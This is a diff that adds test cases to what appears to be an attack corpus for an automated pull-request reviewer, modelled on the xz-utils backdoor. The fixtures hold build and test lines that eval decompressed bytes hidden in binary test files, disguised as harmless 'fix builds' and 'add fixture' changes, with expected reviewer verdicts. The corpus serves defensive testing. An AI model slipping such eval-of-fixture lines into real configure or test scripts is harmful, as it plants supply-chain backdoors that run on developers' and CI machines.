@@ -1912,6 +1912,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: 'approve' },
   },
   {
+    id: 'attack-configure-ac-evals-unpacked-test-file',
+    description:
+      'The xz-utils build-to-host.m4 stage (CVE-2024-3094) written without the pipe into $SHELL: a "fix out-of-tree builds" PR adds a binary test file and a configure.ac line that evals, in backticks, what sed, a tr character swap and `xz -d` make of it. ./configure runs code that is in no file a reviewer reads.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 9450,
+        title: 'build: fix out-of-tree builds',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/files/good-3-lzma2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          {
+            path: 'configure.ac',
+            base: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+            head: lines('AC_INIT([lzfast], [5.6.1])', 'AM_INIT_AUTOMAKE([foreign])', 'AC_PROG_CC', 'gl_srcmap=`echo "$srcdir" | sed "s/ /_/g"`', 'eval `sed -e \'s/\\x00/\\n/g\' "$srcdir/tests/files/good-3-lzma2.xz" | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`', 'AC_CONFIG_FILES([Makefile])', 'AC_OUTPUT'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-test-script-evals-dd-cut-fixture',
+    description:
+      'The xz-utils test-file stage (CVE-2024-3094) with eval instead of a pipe: an "add bad-2 fixture" PR adds a binary fixture and a tests/run.sh line `eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"`: the bytes past the first KiB are decompressed and run by every `make check`, in CI and on developers\' machines.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 9451,
+        title: 'test: add bad-2 fixture',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/files/bad-2.xz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', 'eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"', './test_codec tests/files') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
     id: 'attack-landlock-check-stray-dot',
     description:
       "xz-utils, 2024: one '.' added to the test program of CMakeLists.txt's Landlock check made it never compile, so the sandbox was silently left out of every build. Here as a newcomer's \"tidy the Landlock check\" PR.",
